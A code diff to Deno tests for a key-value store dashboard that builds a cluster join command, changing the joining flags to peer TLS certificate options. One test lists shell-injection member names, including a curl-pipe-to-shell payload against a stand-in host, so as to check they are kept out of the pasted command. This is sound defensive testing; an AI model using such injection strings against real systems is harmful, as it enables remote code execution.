@@ -14,7 +14,7 @@ function commandFor(...members: readonly ReturnType<typeof member>[]): string {
 
 Deno.test("dashboard: what joins a cluster names the address of each member, and a peer port only where it is needed", () => {
   const usual = [0, 1].map((at) => member(`10.0.0.${at}:15000`, `10.0.0.${at}:5000`));
-  const host = "--host ADDRESS --cluster-secret-file FILE";
+  const host = "--host ADDRESS --peer-tls-cert FILE --peer-tls-key FILE --peer-tls-ca FILE";
   assertEquals(commandFor(...usual), `kvstore node --join 10.0.0.0:5000,10.0.0.1:5000 ${host}`);
   const other = member("db:7000", "db:5000");
   assertEquals(commandFor(other), `kvstore node --join db:5000@7000 ${host}`);
@@ -48,7 +48,7 @@ Deno.test("dashboard: where only this machine reaches the members, the new node 
 Deno.test("dashboard: what is to be pasted names no member whose address means something to a shell", () => {
   const good = member("db:15000", "db:5000");
   const zoned = member("[fe80::1%eth0]:15000", "[fe80::1%eth0]:5000");
-  const host = "--host ADDRESS --cluster-secret-file FILE";
+  const host = "--host ADDRESS --peer-tls-cert FILE --peer-tls-key FILE --peer-tls-ca FILE";
   const hostile = ["$(curl${IFS}evil|sh)", "a;b", "`x`", "[$(x)::1]", "[::1%$(x)]", "a b", "a'b"];
   for (const name of hostile) {
     const stranger = member(`${name}:15000`, `${name}:5000`);
